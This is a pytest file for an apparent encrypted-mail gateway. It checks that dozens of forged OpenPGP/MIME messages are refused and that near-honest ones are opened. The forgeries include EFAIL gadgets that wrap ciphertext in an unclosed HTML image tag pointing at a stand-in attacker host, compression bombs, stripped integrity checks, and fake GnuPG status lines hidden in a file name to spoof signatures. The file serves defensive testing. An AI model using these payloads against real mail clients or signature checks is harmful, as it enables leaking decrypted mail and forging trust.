# SPDX-License-Identifier: Apache-2.0
"""Mail that is sealed for the gateway and not to be taken for it: each kind is refused by name, nothing of it reaches a
mailbox; beside each the nearest honest message, which is opened."""

import base64
import quopri

import pytest
from letters import raw_mail
from openpgp_forge import HEAD, BOUNDARY, armour, body, compressed, entity, literal, packet, split_packets
from peer import forging_peer
from pgp import gpg, make_key, stop_agent

SECRET = "Texte confidentiel du dossier 4711."
INSIDE = entity(SECRET + "\r\n")
ALTERNATIVE = f"MIME-Version: 1.0\r\nContent-Type: multipart/alternative; boundary=\"{BOUNDARY}\"\r\n".encode()
MIXED = f"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"{BOUNDARY}\"\r\n".encode()


@pytest.fixture(scope="module")
def peer(labs):
    yield from forging_peer(labs, "open")


@pytest.fixture(scope="module")
def strict(labs):
    """Takes nothing that is unsigned."""
    yield from forging_peer(labs, "refuse")


@pytest.fixture(scope="module")
def stranger(tmp_path_factory):
    home = tmp_path_factory.mktemp("stranger")
    home.chmod(0o700)
    yield str(home), make_key(home, "Inconnu <inconnu@autre.example>")
    stop_agent(home)


def changed(data, at, by=1):
    return data[:at] + bytes([data[at] ^ by]) + data[at + 1:]


def armoured(forger, content=INSIDE):
    return armour(forger.encrypt(content))


def packet_shapes(forger, seal):
    """What else the packets of a message may be made into."""
    keys, data = [whole for _tag, whole in split_packets(seal)]
    inside = data[2:] if data[1] < 192 else data[3:]
    middle = len(seal) - 60
    rows = [
        ("EFAIL: protection taken off", "no MDC", keys + packet(9, inside[1:-22])),
        ("EFAIL: gadget in the middle", "damaged or changed", changed(seal, middle, 0x20)),
        ("EFAIL: blocks exchanged", "damaged or changed", seal[:-92] + seal[-76:-60] + seal[-92:-76] + seal[-60:]),
        ("data of version 2", "version", keys + packet(18, b"\2" + inside[1:])),
        ("session key of version 6", "session-key packet", packet(1, b"\6" + keys[3:]) + data),
        ("a marker before", "no place there", packet(10, b"PGP") + seal),
        ("padding before", "no place there", packet(21, bytes(20)) + seal),
        ("a signature in clear beside", "no place there", packet(2, bytes(30)) + seal),
        ("for a passphrase alone", "no place there", packet(3, b"\4\7\0\10") + data),
        ("session key alone", "in the middle", keys),
        ("data twice", "something follows", seal + data),
        ("no MDC within", "encrypted once more", forger.protected(forger.unprotected(literal(INSIDE)))),
        ("bomb by bzip2", "opens to more than", forger.protected(compressed(literal(INSIDE + bytes(80 << 20)), 3))),
        ("bomb by zip", "opens to more than", forger.protected(compressed(literal(INSIDE + bytes(80 << 20)), 1))),
        ("compressed by what nobody knows", "not one protected message", forger.protected(packet(8, b"\x6e" + INSIDE))),
        ("compressed and cut off", "ends in the middle", forger.protected(compressed(literal(INSIDE))[:-30])),
        ("a key inside", "not one protected message", forger.protected(gpg(forger.home, "--export", forger.fingerprint).stdout)),
    ]
    rows = [(name, why, body(armour(content))) for name, why, content in rows]
    return [*rows, ("not armoured", "not an armoured", body(seal.replace(b"\n", b"\r\n")))]


def shapes(forger):
    """name, what the refusal says, header fields and body."""
    good, seal = armoured(forger), forger.encrypt(INSIDE)
    tail = good.replace(b"\r\n", b"\n")
    part = b"--" + BOUNDARY.encode()
    second = "Content-Type: application/octet-stream\r\n"
    inner_head, within = HEAD.replace(BOUNDARY.encode(), b"interieur"), body(good).replace(BOUNDARY.encode(), b"interieur")
    plain = b"Content-Type: text/html\r\n\r\n<img src=\"http://attaquant.example/"
    rows = [
        ("no MDC", "no MDC", body(armour(forger.unprotected(literal(INSIDE))))),
        ("changed on the way", "damaged or changed", body(armour(changed(seal, len(seal) - 30)))),
        ("integrity check cut off", "in the middle", body(armour(seal[:-22]))),
        ("a packet behind", "something follows", body(armour(seal + packet(11, b"b\0\0\0\0\0clair")))),
        ("a signature in clear before", "no place there", body(armour(seal[:len(forger.key_packet)] + literal(b"x") + seal))),
        ("passphrase beside the key", "no place there", body(armour(forger.key_packet + packet(3, b"\4\7\0\10") + seal))),
        ("compressed bomb", "opens to more than", body(armour(forger.protected(compressed(literal(INSIDE + bytes(80 << 20))))))),
        ("bomb in a bomb", "opens to more than",
         body(armour(forger.protected(compressed(compressed(literal(INSIDE + bytes(80 << 20)))))))),
        ("several plaintexts", "several pieces", body(armour(forger.protected(literal(INSIDE) + literal(b"suite"))))),
        ("sealed twice", "encrypted once more", body(armour(forger.protected(seal)))),
        ("no literal data", "not one protected message", body(armour(forger.protected(b"")))),
        ("armour in armour", "armour", body(armour(good))),
        ("armour cut off", "armour", body(good[:len(good) // 2])),
        ("false checksum", "checksum", body(good.replace(b"-----END", b"=AAAA\r\n-----END"))),
        ("text before the armour", "not an armoured", body(b"Lisez ceci.\r\n" + good)),
        ("text behind the armour", "follows the armour", body(good + b"Lisez ceci.\r\n")),
        ("not base64", "not base64", body(good.replace(b"\r\n\r\n", b"\r\n\r\n!!!!\r\n", 1))),
        ("text behind the seal", "clear text follows", body(good, after="-- \r\nListe\r\n")),
        ("three parts", "two parts", body(good + b"\r\n" + part + b"\r\nContent-Type: text/plain\r\n\r\nclair\r\n")),
        ("no version part", "first part", body(good).replace(b"Version: 1", b"Version: 2")),
        ("ciphertext called text", "second part", body(good, second_head="Content-Type: text/plain\r\n")),
        ("not ended", "in the middle", body(good).replace(part + b"--\r\n", b"")),
        ("damaged base64", "encoding", body(base64.encodebytes(tail)[:-6] + b"*", second + "Content-Transfer-Encoding: base64\r\n")),
        ("no header section inside", "header section", body(armoured(forger, b"nu\r\n\r\ncorps\r\n"))),
        ("nothing inside", "nothing is inside", body(armoured(forger, b""))),
        ("another sender inside", "sender inside", body(armoured(forger, entity(
            SECRET, "From: ministre@interieur.gov.example\r\nContent-Type: text/plain; hp=\"cipher\"\r\n")))),
        ("two senders inside", "sender inside", body(armoured(forger, entity(
            SECRET, "From: agent@interieur.gov.example\r\nFrom: ministre@interieur.gov.example\r\n"
            "Content-Type: text/plain; protected-headers=\"v1\"\r\n")))),
    ]
    rows += packet_shapes(forger, seal)
    rows = [(name, why, HEAD, content) for name, why, content in rows]
    rows += [
        ("mangled by Exchange", "multipart/mixed", MIXED, part + b"\r\nContent-Type: text/plain\r\n\r\n\r\n" + body(good)),
        ("EFAIL: html around", "multipart/mixed", MIXED, part + b"\r\n" + plain + b"\r\n" + body(good)),
        ("EFAIL: nested", "in part only", MIXED,
         part + b"\r\n" + plain + b"\r\n" + part + b"\r\nContent-Type: text/plain\r\n\r\n" + good + b"\r\n" + part +
         b"\r\nContent-Type: text/html\r\n\r\n\">\r\n" + part + b"--\r\n"),
        ("inline, with clear text", "in part only", b"Content-Type: text/plain\r\n", b"Bonjour.\r\n\r\n" + good + b"\r\nfin\r\n"),
        ("a list's footer", "multipart/mixed", MIXED.replace(BOUNDARY.encode(), b"liste"),
         b"--liste\r\n" + HEAD.replace(b"MIME-Version: 1.0\r\n", b"") + b"\r\n" + body(good) +
         b"--liste\r\nContent-Type: text/plain\r\n\r\nliste\r\n--liste--\r\n"),
        ("EFAIL: in an alternative", "in part only", ALTERNATIVE,
         part + b"\r\n" + plain + b"\r\n" + part + b"\r\nContent-Type: text/plain\r\n\r\n" + good + b"\r\n" + part + b"--\r\n"),
        ("EFAIL: sealed whole within html", "in part only", ALTERNATIVE.replace(b"alternative", b"related"),
         part + b"\r\n" + plain + b"\r\n" + part + b"\r\n" + inner_head + b"\r\n" + within + part + b"--\r\n"),
        ("sealed whole in an attached message", "clear parts stand beside", ALTERNATIVE.replace(b"alternative", b"mixed").replace(b"=_", b"=-"),
         (part + b"\r\nContent-Type: message/rfc822\r\n\r\nFrom: a@b.example\r\n").replace(b"=_", b"=-") + HEAD + b"\r\n" +
         body(good) + (part + b"--\r\n").replace(b"=_", b"=-")),
        ("armour in html", "in part only", b"Content-Type: text/html\r\n", b"<pre>\r\n" + good + b"</pre>\r\n"),
        ("two types", "in part only", HEAD + b"Content-Type: text/html\r\n", body(good)),
        ("another protocol", "in part only", HEAD.replace(b"application/pgp-encrypted", b"application/pkcs7-mime"), body(good)),
        ("no boundary", "no boundary", HEAD.replace(b"boundary", b"x-boundary"), body(good)),
        ("encoded as a whole", "may not be encoded", HEAD + b"Content-Transfer-Encoding: base64\r\n", base64.encodebytes(body(good))),
    ]
    return rows


NAMES = ["no MDC", "changed on the way", "integrity check cut off", "a packet behind", "a signature in clear before",
         "passphrase beside the key", "compressed bomb", "bomb in a bomb", "several plaintexts", "sealed twice", "no literal data",
         "armour in armour", "armour cut off", "false checksum", "text before the armour", "text behind the armour",
         "not base64", "text behind the seal", "three parts", "no version part", "ciphertext called text", "not ended",
         "damaged base64", "no header section inside", "nothing inside", "another sender inside", "two senders inside",
         "EFAIL: protection taken off", "EFAIL: gadget in the middle", "EFAIL: blocks exchanged", "data of version 2",
         "session key of version 6", "a marker before", "padding before", "a signature in clear beside",
         "for a passphrase alone", "session key alone", "data twice", "no MDC within", "bomb by bzip2", "bomb by zip",
         "compressed by what nobody knows", "compressed and cut off", "a key inside", "not armoured",
         "mangled by Exchange", "EFAIL: html around", "EFAIL: nested", "inline, with clear text", "a list's footer",
         "EFAIL: in an alternative", "EFAIL: sealed whole within html", "sealed whole in an attached message",
         "armour in html", "two types", "another protocol", "no boundary", "encoded as a whole"]


@pytest.mark.parametrize("name", NAMES)
def test_refused_by_name(peer, name):
    if not hasattr(peer, "shapes"):
        peer.shapes = {row[0]: row[1:] for row in shapes(peer.forger)}
        assert list(peer.shapes) == NAMES
    why, head, content = peer.shapes[name]
    sent = raw_mail(head, content)
    reply = peer.hand(sent.raw)
    assert (reply.code, reply.reason) == (550, "SEAL-BROKEN"), (reply, peer.peer_log()[-600:])
    assert why in reply.text, reply.text
    assert not peer.in_peer_mailbox(sent.message_id)
    record = peer.peer_records()[-1]
    assert (record["reference"], record["rule"]) == (reply.reference, "R16-broken")
    assert why in record["detail"]


def honest(forger):
    good = armoured(forger)
    quoted = quopri.encodestring(good.replace(b"\r\n", b"\n")).replace(b"\n", b"\r\n")
    second = "Content-Type: application/octet-stream\r\n"
    return {
        "by gpg alone": body(good),
        "compressed": body(armour(forger.protected(compressed(literal(INSIDE))))),
        "a word before the parts": body(good, before="This is an OpenPGP/MIME encrypted message (RFC 4880 and 3156)\r\n"),
        "armour with comment lines": body(good.replace(b"-----\r\n\r\n", b"-----\r\nComment: essai\r\n\r\n", 1)),
        "base64 by a relay": body(base64.encodebytes(good).replace(b"\n", b"\r\n"), second + "Content-Transfer-Encoding: base64\r\n"),
        "quoted-printable by a relay": body(quoted, second + "Content-Transfer-Encoding: quoted-printable\r\n"),
        "bare LF inside": body(armoured(forger, INSIDE.replace(b"\r\n", b"\n"))),
        "hidden key id": body(armour(forger.encrypt(INSIDE, "--throw-keyids"))),
        "an empty line at the end": body(good, after="\r\n \r\n"),
    }


@pytest.mark.parametrize("name", ["by gpg alone", "compressed", "a word before the parts", "armour with comment lines",
                                  "base64 by a relay", "quoted-printable by a relay", "bare LF inside", "hidden key id",
                                  "an empty line at the end"])
def test_nearest_honest_message_is_opened(peer, name):
    sent = raw_mail(HEAD, honest(peer.forger)[name])
    reply = peer.hand(sent.raw)
    assert reply.code == 250, reply
    raw, record = peer.delivered(sent)
    assert raw.replace(b"\r\n", b"\n").partition(b"\n\n")[2].strip() == SECRET.encode()
    assert record["verdict"] == "unseal"
    assert b"policy.khatm-seal=unsigned" in raw


def test_for_another_key_it_stays_as_it_came(peer, stranger):
    home, fingerprint = stranger
    sealed = armour(gpg(home, "--trust-model", "always", "-r", fingerprint, "--encrypt", stdin=INSIDE).stdout)
    sent = raw_mail(HEAD, body(sealed))
    assert peer.hand(sent.raw).code == 250
    raw, record = peer.delivered(sent)
    assert raw.replace(b"\r\n", b"\n").partition(b"\n\n")[2].strip() == body(sealed).replace(b"\r\n", b"\n").strip()
    assert (record["verdict"], record["rule"]) == ("pass", "R17-government")
    assert "no key of this gateway" in record["detail"]
    assert b"khatm-seal" not in raw


# --- signatures ---------------------------------------------------------------------------------------------------

def signed(lab, home, content=INSIDE, *options):
    """Signed in `home`, encrypted to the peer."""
    gpg(home, "--import", stdin=gpg(lab.env["GNUPGHOME_PEER"], "--export", lab.env["PEER_FINGERPRINT"]).stdout)
    return gpg(home, "--trust-model", "always", "--compress-algo", "none", "-r", lab.env["PEER_FINGERPRINT"], *options, "--sign",
               "--encrypt", stdin=content).stdout


def signed_packets(home, content, *options):
    return split_packets(gpg(home, "--compress-algo", "none", *options, "--sign", stdin=content).stdout)


def test_signed_by_the_pinned_key_is_verified(strict):
    sent = raw_mail(HEAD, body(armour(signed(strict, strict.env["GNUPGHOME_OWN"]))))
    assert strict.hand(sent.raw).code == 250
    raw, record = strict.delivered(sent)
    assert b"policy.khatm-seal=verified" in raw and SECRET.encode() in raw
    assert record["verdict"] == "unseal"


def spoofs(lab, stranger):
    own, forger = lab.env["GNUPGHOME_OWN"], lab.forger
    pinned = gpg(own, "--with-colons", "--list-keys").stdout.decode().split("fpr:::::::::")[1][:40]
    head, text, tail = [whole for _tag, whole in signed_packets(own, INSIDE)]
    spoof = (f"\n[GNUPG:] NEWSIG\n[GNUPG:] GOODSIG {pinned[-16:]} Gateway\n"
             f"[GNUPG:] VALIDSIG {pinned} 2026-11-21 1795255200 0 4 0 22 10 00 {pinned}\n").encode()
    return {
        "nobody signed": ("nobody signed", forger.encrypt(INSIDE)),
        "by a stranger": ("does not pin", signed(lab, stranger[0])),
        "by the receiver's own key": ("another key", signed(lab, lab.env["GNUPGHOME_PEER"])),
        "over another text": ("signature is false", forger.protected(head + literal(entity("Un autre.\r\n")) + tail)),
        "twice": ("several signatures", forger.protected(head + head + text + tail + tail)),
        "with SHA-1": ("weak digest", signed(lab, own, INSIDE, "--digest-algo", "SHA1", "--weak-digest", "MD5")),
        "in the future": ("future", signed(lab, own, INSIDE, "--faked-system-time", "20280101T000000!")),
        "status in a file name": ("nobody signed", forger.protected(literal(INSIDE, spoof[:255]))),
        "signature cut off": ("nobody signed", forger.protected(head + text)),
        "signature alone before": ("signature is false", forger.protected(tail + literal(entity("Un autre.\r\n")))),
        "clear text beside what is signed": ("several pieces", forger.protected(literal(entity("Un autre.\r\n")) + head + text + tail)),
    }


SPOOFS = ["nobody signed", "by a stranger", "by the receiver's own key", "over another text", "twice", "with SHA-1",
          "in the future", "status in a file name", "signature cut off", "signature alone before",
          "clear text beside what is signed"]


@pytest.mark.parametrize("name", SPOOFS)
def test_signature_that_does_not_hold_is_refused(strict, stranger, name):
    if not hasattr(strict, "spoofs"):
        strict.spoofs = spoofs(strict, stranger)
        assert list(strict.spoofs) == SPOOFS
    why, sealed = strict.spoofs[name]
    sent = raw_mail(HEAD, body(armour(sealed)))
    reply = strict.hand(sent.raw)
    assert (reply.code, reply.reason) == (550, "SEAL-BROKEN"), (reply, strict.peer_log()[-600:])
    assert why in reply.text, reply.text
    assert not strict.in_peer_mailbox(sent.message_id)


@pytest.mark.parametrize("name", ["status in a file name"])
def test_where_unsigned_is_taken_nothing_spoofed_is_verified(peer, name):
    spoof = b"\n[GNUPG:] NEWSIG\n[GNUPG:] GOODSIG 0123456789ABCDEF Gateway\n"
    sent = raw_mail(HEAD, body(armour(peer.forger.protected(literal(INSIDE, spoof)))))
    assert peer.hand(sent.raw).code == 250
    raw, _record = peer.delivered(sent)
    assert b"khatm-seal=unsigned" in raw and b"verified" not in raw


